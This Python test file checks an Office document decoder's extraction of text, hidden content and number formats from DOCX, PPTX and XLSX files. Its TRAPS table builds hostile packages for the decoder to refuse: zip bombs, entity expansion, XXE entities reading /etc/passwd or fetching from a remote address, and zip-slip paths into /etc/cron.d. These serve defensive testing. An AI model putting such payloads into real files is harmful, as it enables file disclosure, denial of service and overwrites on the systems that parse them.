"""Office documents: their words and places, what is hidden, and packages made to trap a reader."""

from __future__ import annotations

import io
import resource
import time
import zipfile
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nutgraf import archive
from nutgraf.archive import office, office_package
from nutgraf.errors import Refused
from nutgraf.rundown.work import in_a_child
from nutgraf.runners.child import ChildFailure
from nutgraf.sources.office import DOCX, PPTX, XLSX
from nutgraf.sources.package import package_kind
from tests.archive import ooxml
from tests.archive.ooxml import docx, package, paragraph, pptx, relations, slide, xlsx
from tests.archive.samples import item, read, refused

LONG = "Words of a paragraph that is long enough to be read as one. "


def test_paragraphs_tables_and_notes_with_their_numbers() -> None:
    row = "<w:tr><w:tc>{}</w:tc><w:tc>{}{}</w:tc></w:tr>".format(
        paragraph("Model"), paragraph("Score"), paragraph("of ten")
    )
    body = (
        paragraph("A title")
        + "<w:p/>"
        + paragraph("One, ", "two &amp; three.")
        + f"<w:tbl>{row}</w:tbl>"
        + paragraph("The end.")
    )
    notes = f'<w:footnotes {ooxml.W}><w:footnote w:type="separator">{paragraph("---")}</w:footnote><w:footnote>{paragraph("A note.")}</w:footnote></w:footnotes>'
    made = read(package({
        "word/document.xml": f"<w:document {ooxml.W}><w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": relations(rId1="footnotes footnotes.xml", rId2="hyperlink https://x.example/"),
        "word/footnotes.xml": notes,
        "docProps/core.xml": "<c><title>The title</title><creator>Ada Byron</creator><modified>2026-04-01T09:30:00Z</modified></c>",
    }), DOCX)  # fmt: skip
    assert made.text.split("\n") == [
        "A title", "One, two & three.", "Model\tScore of ten", "The end.", "A note.",
    ]  # fmt: skip
    places = [(block.line, block.part) for block in made.layout.blocks]
    assert places == [(1, ""), (3, ""), (4, ""), (7, ""), (1, "footnote")]
    assert (made.found.title, made.found.author) == ("The title", "Ada Byron")
    assert (
        made.found.published_at
        and made.found.published_at.isoformat() == "2026-04-01T09:30:00+00:00"
    )
    assert made.canonicaliser == "office/2"


def test_what_a_document_does_not_show_is_no_text() -> None:
    body = (
        "<w:p><w:r><w:t>Seen</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>unseen</w:t></w:r>"
        '<w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t> again</w:t></w:r>'
        "<w:del><w:r><w:delText>gone</w:delText><w:t>gone</w:t></w:r></w:del>"
        "<w:ins><w:r><w:t> added</w:t></w:r></w:ins><w:r><w:instrText>PAGE</w:instrText></w:r>"
        "<mc:AlternateContent><mc:Choice><w:r><w:t> once</w:t></w:r></mc:Choice>"
        "<mc:Fallback><w:r><w:t> twice</w:t></w:r></mc:Fallback></mc:AlternateContent>"
        "<w:r><w:tab/><w:t>tab</w:t><w:br/><w:t>break\nwrapped</w:t></w:r></w:p>"
    )
    made = read(docx(body), DOCX)
    assert made.text == "Seen again added once\ttab break wrapped"
    assert made.dropped == (("hidden characters", 6),)


def test_slides_in_the_order_they_are_shown_with_notes() -> None:
    deck = pptx(
        [slide("First", "point"), slide("Hidden", more='show="0"'), slide("Last"), slide("7", kind="sldNum")],
        {0: slide("Say this.", kind="body").replace("</p:spTree>", "<p:sp><p:nvSpPr><p:nvPr><p:ph type='sldNum'/></p:nvPr></p:nvSpPr><p:txBody><a:p><a:r><a:t>1</a:t></a:r></a:p></p:txBody></p:sp></p:spTree>")},
    )  # fmt: skip
    made = read(deck, PPTX)
    assert made.text.split("\n") == ["First", "point", "Say this.", "Last"]
    assert [(one.page, one.part) for one in made.layout.blocks] == [
        (1, ""), (1, ""), (1, "notes"), (3, ""),
    ]  # fmt: skip
    assert dict(made.dropped) == {"characters of headers and footers": 2, "hidden slides": 1}


def test_a_hidden_shape_hides_itself_and_what_stands_in_it() -> None:
    def shape(words: str, more: str = "", tag: str = "sp") -> str:
        return f"<p:{tag}><p:nvPr><p:cNvPr id='1' {more}/></p:nvPr><a:p><a:r><a:t>{words}</a:t></a:r></a:p></p:{tag}>"

    group = "<p:grpSp><p:nvGrpSpPr><p:cNvPr id='2' {}/></p:nvGrpSpPr>{}</p:grpSp>"
    shapes = (
        "<p:pic><p:nvPicPr><p:cNvPr id='3' hidden='1'/><p:nvPr><p:ph type='dt'/></p:nvPr></p:nvPicPr></p:pic>"
        + "<p:sp><a:p><a:r><a:t>Seen</a:t></a:r></a:p></p:sp>"
        + group.format("hidden='1'", shape("gone") + shape("lost", tag="graphicFrame"))
        + group.format("", shape("no", "hidden='true'") + shape("In a group"))
        + shape("Last")
    )
    made = read(pptx([slide().replace("</p:spTree>", shapes + "</p:spTree>")]), PPTX)
    assert made.text.split("\n") == ["Seen", "In a group", "Last"]
    assert dict(made.dropped) == {"hidden characters": 10}


def test_rows_of_sheets_as_they_are_shown() -> None:
    rows = (
        '<row r="2"><c t="s"><v>0</v></c><c><v>1234.5</v></c><c s="1"><v>0.125</v></c><c s="2"><v>46113</v></c>'
        '<c s="2"><v>46113.75</v></c><c t="b"><v>1</v></c><c t="inlineStr"><is><t>in</t></is></c><c t="str"><f>A1&amp;"x"</f><v>made</v></c>'
        '<c t="e"><v>#N/A</v></c><c><v>0.30000000000000004</v></c></row><row r="9"><c/></row><row r="10" hidden="1"><c><v>5</v></c></row>'
    )
    made = read(xlsx(
        {"Prices": rows, "Secret": '<row><c><v>1</v></c></row>', "Last": '<row><c t="s"><v>1</v></c></row>'},
        shared="<si><t>Mo</t><r><t>del</t></r><rPh><t>x</t></rPh></si><si><t>End</t></si>",
        styles='<numFmts><numFmt numFmtId="164" formatCode="yyyy\\-mm\\-dd;@"/></numFmts><cellStyleXfs><xf numFmtId="14"/></cellStyleXfs><cellXfs><xf numFmtId="0"/><xf numFmtId="10"/><xf numFmtId="164"/></cellXfs>',
        states={"Secret": "veryHidden"},
    ), XLSX)  # fmt: skip
    assert made.text.split("\n") == [
        "Model\t1234.5\t12.5%\t2026-04-01\t2026-04-01 18:00\tTRUE\tin\tmade\t#N/A\t0.3", "End",
    ]  # fmt: skip
    assert [(one.part, one.line) for one in made.layout.blocks] == [("Prices", 2), ("Last", 1)]
    assert dict(made.dropped) == {"hidden rows": 1, "hidden sheets": 1}


@pytest.mark.parametrize(
    ("code", "value", "shown"),
    [
        ("[h]:mm", "1.5", "36:00"), ("[hh]:mm:ss", "0.25", "6:00"), ("[Magenta]0.00", "5", "5"), ("[Schwarz]0", "5", "5"),
        ("[HUF] 0", "5", "5"), ("yyyy-mm-dd", "1", "1900-01-01"), ("yyyy-mm-dd", "59", "1900-02-28"),
        ("yyyy-mm-dd", "61", "1900-03-01"), ("[$-409]d mmm yy", "46113", "2026-04-01"), ("h:mm", "0.5", "12:00"),
    ],
)  # fmt: skip
def test_a_number_is_shown_by_its_style(code: str, value: str, shown: str) -> None:
    styles = f'<numFmts><numFmt numFmtId="164" formatCode="{code}"/></numFmts><cellXfs><xf numFmtId="164"/></cellXfs>'
    row = f'<row><c t="inlineStr"><is><t>Tokyo</t><rPh><t>guide</t></rPh></is></c><c><v>{value}</v></c></row>'
    assert read(xlsx({"A": row}, styles=styles), XLSX).text == f"Tokyo\t{shown}"


def test_what_the_usual_libraries_write_is_read_line_for_line() -> None:
    for name in ("docx", "pptx", "openpyxl"):
        pytest.importorskip(name, reason=f"{name} is not installed")
    from benchmarks import generated_office

    for media_type, make, _ in generated_office.KINDS.values():
        data, lines = make(7)
        assert read(data, media_type).text.split("\n") == lines
        assert package_kind(data) in media_type or media_type in {DOCX, PPTX, XLSX}


def bomb(member: str, head: bytes, filler: bytes, times: int) -> bytes:
    """A package whose part grows without end; written piece by piece, never whole in memory."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as made:
        made.writestr("[Content_Types].xml", "<Types/>")
        with made.open(member, "w", force_zip64=True) as stream:
            stream.write(head)
            for _ in range(times):
                stream.write(filler)
    return out.getvalue()


MIB = 1 << 20
DOCUMENT = f"<w:document {ooxml.W}><w:body>".encode()
NOISE = b"".join(zlib.crc32(b"%d" % n).to_bytes(4, "big").hex().encode() for n in range(3000))
ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(12))
TRAPS: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "a document of 40 MiB of blanks": (lambda: bomb("word/document.xml", DOCUMENT, b" " * MIB, 40), DOCX, "office-bomb"),
    "a document of 110 MiB that packs badly": (lambda: bomb("word/document.xml", DOCUMENT, (b"<w:p><w:r><w:t>" + NOISE + b"</w:t></w:r></w:p>") * 40, 115), DOCX, "office-bomb"),
    "too many elements": (lambda: bomb("word/document.xml", DOCUMENT, b"".join(b"<i%d/>" % (n * n) for n in range(60_000)), 22), DOCX, "office-bomb"),
    "slides that grow": (lambda: bomb("ppt/presentation.xml", b"<p>", b" " * MIB, 40), PPTX, "office-bomb"),
    "strings that grow": (lambda: bomb("xl/workbook.xml", b"<w>", b"<s/>" * (MIB // 4), 40), XLSX, "office-bomb"),
    "20,000 members": (lambda: package({"word/document.xml": "<d/>", **{f"{n}": "" for n in range(20_000)}}, pack=zipfile.ZIP_STORED), DOCX, "office-bomb"),
    "entities that grow": (lambda: package({"word/document.xml": f"<!DOCTYPE d [{ENTITIES}]><d>&a11;</d>"}), DOCX, "office-dtd"),
    "an entity from a file": (lambda: package({"word/document.xml": '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/hostname">]><d><p><t>&a;</t></p></d>'}), DOCX, "office-dtd"),
    "a parameter entity from an address": (lambda: package({"word/document.xml": '<!DOCTYPE d [<!ENTITY % a SYSTEM "http://192.0.2.1/x"> %a;]><d/>'}), DOCX, "office-dtd"),
    "100,000 elements deep": (lambda: package({"word/document.xml": "<a>" * 100_000}), DOCX, "office-broken"),
    "a zip in a zip": (lambda: docx(paragraph("Words."), word__embeddings__a=package({"b": b"0" * MIB})), DOCX, ""),
    "macros": (lambda: docx(paragraph("Words."), word__vbaProject=b"\x00" * 5000), DOCX, ""),
    "words at an address": (lambda: package({"word/document.xml": f"<w:document {ooxml.W}><w:body>{paragraph('Words.')}</w:body></w:document>", "word/_rels/document.xml.rels": relations(rId1="footnotes http://192.0.2.1/f.xml", rId2="attachedTemplate file:///etc/passwd"), "_rels/.rels": relations(rId1="officeDocument http://192.0.2.1/d.xml")}), DOCX, ""),
    "members outside the package": (lambda: package({"word/document.xml": f"<w:document {ooxml.W}><w:body>{paragraph('Words.')}</w:body></w:document>", "../../etc/cron.d/x": b"x", "word/_rels/document.xml.rels": relations(rId1="footnotes ../../../etc/passwd")}), DOCX, ""),
}  # fmt: skip


@pytest.mark.parametrize("name", TRAPS)
def test_a_trap_is_refused_or_only_its_words_are_read(name: str) -> None:
    make, media_type, rule = TRAPS[name]
    data = make()
    began = time.process_time()
    office.decode(data)
    # The bound is 2 seconds of a machine that is not busy with other things.
    assert time.process_time() - began < 10
    made = archive.canonical(item(data, media_type), decode=in_a_child)
    if rule:
        assert isinstance(made, Refused) and made.rule == rule
        assert made.happened.endswith(".") and made.next_step.endswith(".")
    else:
        assert isinstance(made, archive.Canonical) and made.text == "Words."


def peak() -> int:
    """The most memory this process has held, in MiB."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024


def test_a_bomb_costs_no_memory() -> None:
    packed = TRAPS["a document of 110 MiB that packs badly"][0]()
    office.decode(docx(paragraph("Words.")))
    before = peak()
    office.decode(packed)
    for name in ("a document of 40 MiB of blanks", "strings that grow"):
        office.decode(TRAPS[name][0]())
    assert peak() - before <= 100


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        (b"", "office-broken"), (b"PK\x03\x04 and nothing", "office-broken"),
        (package({"word/document.xml": "<unclosed"}), "office-broken"), (package({"other": "x"}), "office-broken"),
        (docx(""), "empty"), (docx(paragraph(" ")), "empty"), (docx(paragraph("x"))[:200], "office-broken"),
    ],
)  # fmt: skip
def test_what_holds_no_words_is_refused(body: bytes, rule: str) -> None:
    assert refused(body, DOCX).rule == rule


def test_a_member_with_a_password_says_so() -> None:
    locked = bytearray(docx(paragraph("Words.")))
    at = 0
    while (at := locked.find(b"PK\x01\x02", at)) >= 0:
        locked[at + 8] |= 1
        at += 4
    assert refused(bytes(locked), DOCX).rule == "office-password"


@pytest.mark.parametrize("kind", ["memory", "cpu", "time", "crash"])
def test_a_child_that_failed_is_a_refusal(kind: str) -> None:
    failure = ChildFailure(kind=kind, message="It did.")
    made = archive.canonical(item(b"x", DOCX), decode=lambda *_: failure)
    assert isinstance(made, Refused) and made.rule == f"office-{kind}"
    made = archive.canonical(item(b"x", DOCX), decode=lambda *_: b"{oops")
    assert isinstance(made, Refused) and made.rule == "office-crash"


def test_an_attached_workbook_keeps_its_sheet_and_the_part_of_the_mail() -> None:
    data = xlsx({"Prices": '<row r="3"><c><v>5</v></c></row>'})
    made = archive.canonical(item(data, XLSX, part="1.2"))
    assert isinstance(made, archive.Canonical)
    assert [(one.part, one.line) for one in made.layout.blocks] == [("1.2 Prices", 3)]


@settings(deadline=None, max_examples=80)
@given(st.data())
def test_a_damaged_document_gives_lines_or_a_refusal(data: st.DataObject) -> None:
    whole = bytearray(data.draw(st.sampled_from(SAMPLES)))
    for _ in range(data.draw(st.integers(1, 6))):
        whole[data.draw(st.integers(0, len(whole) - 1))] = data.draw(st.integers(0, 255))
    for media_type in (DOCX, PPTX, XLSX):
        made = archive.canonical(item(bytes(whole), media_type))
        if isinstance(made, Refused):
            assert made.rule.startswith("office-") or made.rule == "empty"
        else:
            for block in made.layout.blocks:
                assert made.text[block.start : block.end].strip()


SAMPLES = [
    docx(paragraph(LONG) * 3), pptx([slide("One"), slide("Two")]),
    xlsx({"A": '<row><c t="s"><v>0</v></c></row>'}, shared="<si><t>x</t></si>"),
]  # fmt: skip


@settings(deadline=None)
@given(st.lists(st.text(st.characters(blacklist_categories=["Cs", "Cc"]), max_size=40), max_size=8))
def test_every_paragraph_is_a_line_at_its_number(words: list[str]) -> None:
    from xml.sax.saxutils import escape

    made = archive.canonical(item(docx("".join(paragraph(escape(one)) for one in words)), DOCX))
    ends = str.maketrans(dict.fromkeys("\x85\u2028\u2029", " "))
    said = [(n, one.translate(ends).strip()) for n, one in enumerate(words, 1)]
    if isinstance(made, Refused):
        assert made.rule == "empty" and not any(one for _, one in said)
    else:
        found = [(b.line, made.text[b.start : b.end]) for b in made.layout.blocks]
        assert found == [(n, one) for n, one in said if one]


def test_package_kinds() -> None:
    assert [package_kind(one) for one in SAMPLES] == ["docx", "pptx", "xlsx"]
    assert package_kind(package({"mimetype": "application/epub+zip"})) == ""
    assert package_kind(b"PK\x03\x04 torn") == "" and package_kind(b"") == ""
    assert office_package.RATIO == 200
